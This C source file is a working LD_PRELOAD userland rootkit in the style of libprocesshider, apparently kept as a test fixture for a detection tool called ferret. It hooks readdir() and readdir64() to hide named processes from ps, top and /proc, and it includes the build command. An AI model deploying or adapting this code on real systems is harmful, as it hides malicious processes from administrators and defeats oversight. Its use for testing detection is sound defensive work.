/*
 * A libprocesshider-style rootkit (docs/threats.md#case-1), for ferret's integration tests only.
 * Loaded through /etc/ld.so.preload, it hooks readdir() and readdir64() in every dynamically linked
 * program and skips the /proc/<pid> entries of processes whose comm equals HIDE_NAME, so ps, top and
 * ls /proc stop showing them while the kernel still runs them.
 *
 * Build: gcc -shared -fPIC -DHIDE_NAME='"name"' -o libprocesshider.so processhider.c -ldl
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifndef HIDE_NAME
#error "compile with -DHIDE_NAME='\"comm-to-hide\"'"
#endif

static int is_proc_dir(DIR *dirp) {
    char link[64];
    char target[PATH_MAX];
    int fd = dirfd(dirp);
    if (fd < 0) {
        return 0;
    }
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, target, sizeof target - 1);
    if (n < 0) {
        return 0;
    }
    target[n] = '\0';
    return strcmp(target, "/proc") == 0;
}

static int is_hidden_pid(const char *name) {
    char path[64];
    char comm[64];
    if (name[0] < '0' || name[0] > '9') {
        return 0;
    }
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        return 0;
    }
    ssize_t n = read(fd, comm, sizeof comm - 1);
    close(fd);
    if (n <= 0) {
        return 0;
    }
    comm[n] = '\0';
    char *nl = strchr(comm, '\n');
    if (nl) {
        *nl = '\0';
    }
    return strcmp(comm, HIDE_NAME) == 0;
}

#define HOOK(fn, entry_type)                                                     \
    struct entry_type *fn(DIR *dirp) {                                           \
        static struct entry_type *(*original)(DIR *) = NULL;                     \
        if (original == NULL) {                                                  \
            original = (struct entry_type * (*)(DIR *)) dlsym(RTLD_NEXT, #fn);   \
        }                                                                        \
        struct entry_type *entry;                                                \
        while ((entry = original(dirp)) != NULL) {                               \
            if (!(is_proc_dir(dirp) && is_hidden_pid(entry->d_name))) {          \
                break;                                                           \
            }                                                                    \
        }                                                                        \
        return entry;                                                            \
    }

HOOK(readdir, dirent)
HOOK(readdir64, dirent64)
